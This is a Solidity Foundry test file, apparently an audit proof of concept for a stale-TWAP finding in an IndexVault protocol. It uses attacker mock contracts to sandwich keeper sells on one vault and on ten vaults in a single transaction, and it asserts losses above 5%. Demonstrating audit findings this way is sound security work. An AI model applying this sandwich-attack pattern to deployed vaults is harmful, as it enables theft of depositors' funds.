// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {console} from "forge-std/Test.sol";
import {RealisticMarket} from "../utils/RealisticMarket.sol";
import {SandwichKeeper, BatchSandwichKeeper} from "../mocks/Attackers.sol";
import {IndexVault} from "../../../contracts/IndexVault.sol";
import {IIndexVault} from "../../../contracts/interfaces/IIndexVault.sol";
import {TickMath} from "../../../contracts/libraries/TickMath.sol";

/// @notice Issue 13, finding 2: no manipulation of the oracle at all. A rose 10% ten minutes ago
///         (a real move, the pool now trades there); a 30-minute TWAP still lags it. A keeper
///         that sells A while sandwiching itself (or a searcher sandwiching the keeper) sells
///         at the lagging floor. Measured at the market price (the pool's undisturbed spot).
contract StaleTwapTest is RealisticMarket {
    uint256 internal constant VAULTS = 10;

    SandwichKeeper internal evil;
    BatchSandwichKeeper internal evilBatch;
    IndexVault[] internal vaults;
    int24 internal marketTick;
    bool internal batch;

    function setUp() public override {
        super.setUp();
        evil = new SandwichKeeper();
        evilBatch = new BatchSandwichKeeper();
        _fund(address(usdc), address(evil), 100_000_000e6);
        _fund(address(usdc), address(evilBatch), 100_000_000e6);
        _fund(address(a), address(evilBatch), 100_000e18);
        _fund(address(a), address(evil), 100_000e18);
    }

    /// @dev `n` vaults, each holding $10 000 of A and a mandate naming `keeper_`; then the real
    ///      move: A +10% (953 ticks), and 10 minutes pass.
    function _market(uint256 n, address keeper_) internal {
        keeper = keeper_;
        vaults.push(vault);
        for (uint256 i = 1; i < n; ++i) {
            vaults.push(IndexVault(factory.createVault(address(uint160(0x1000 + i)), bytes32(0))));
        }
        for (uint256 i; i < n; ++i) {
            vault = vaults[i];
            owner = vault.owner();
            _buy(VAULT_USDC, _legs(_leg(address(a), VAULT_USDC * 9_970 / 10_000, 0)));
            _setMandate(_issueMandate(), _allow(address(a)));
        }
        _age(1 hours);
        actor.pushPrice(address(poolA), TickMath.sqrtRatioAtTick(_spotTick(poolA) + 953));
        _blocks(50); // 10 minutes
        marketTick = _spotTick(poolA);
    }

    function _attack(uint256 depth) internal override {
        uint160 pushTo = _cheaper(marketTick, depth);
        if (!batch) {
            evil.sandwich(vault, address(poolA), pushTo, _legs(_keeperSell(address(a), _bal(address(a), address(vault)))), _noLegs());
            return;
        }
        IIndexVault[] memory vs = new IIndexVault[](vaults.length);
        IIndexVault.Leg[][] memory sells = new IIndexVault.Leg[][](vaults.length);
        IIndexVault.Leg[][] memory buys = new IIndexVault.Leg[][](vaults.length);
        for (uint256 i; i < vaults.length; ++i) {
            vs[i] = vaults[i];
            vault = vaults[i];
            sells[i] = _legs(_keeperSell(address(a), _bal(address(a), address(vault))));
            buys[i] = _noLegs();
        }
        evilBatch.sandwichMany(vs, address(poolA), pushTo, sells, buys);
    }

    function _totalValue() internal view returns (uint256 v) {
        for (uint256 i; i < vaults.length; ++i) v += _valueAt(address(vaults[i]), marketTick);
    }

    function _totalRecorded() internal view returns (uint256 r) {
        for (uint256 i; i < vaults.length; ++i) {
            (uint256 used, ,) = vaults[i].lossUsed();
            r += used;
        }
    }

    function test_oneVault_realMoveTenMinutesAgo_keeperSellsAtTheLaggingFloor() public {
        _market(1, address(evil));
        uint256 before_ = _totalValue();
        uint256 depth = _deepest(3_000);
        _attack(depth);
        uint256 lost = before_ - _totalValue();
        console.log("one vault: value at market before (USDC units)", before_);
        console.log("one vault: lost at market (USDC units)", lost);
        console.log("one vault: recorded against the budget (USDC units)", _totalRecorded());
        assertGt(lost * 100, before_ * 5, "today: over 5% of the vault lost at market");
    }

    function test_tenVaultsInOneTransaction_realMoveTenMinutesAgo() public {
        _market(VAULTS, address(evilBatch));
        batch = true;
        uint256 before_ = _totalValue();
        uint256 depth = _deepest(3_000);
        _attack(depth);
        uint256 lost = before_ - _totalValue();
        console.log("ten vaults: value at market before (USDC units)", before_);
        console.log("ten vaults: lost at market (USDC units)", lost);
        console.log("ten vaults: recorded against the budgets (USDC units)", _totalRecorded());
        assertGt(lost * 100, before_ * 5, "today: over 5% of ten vaults lost at market");
    }
}
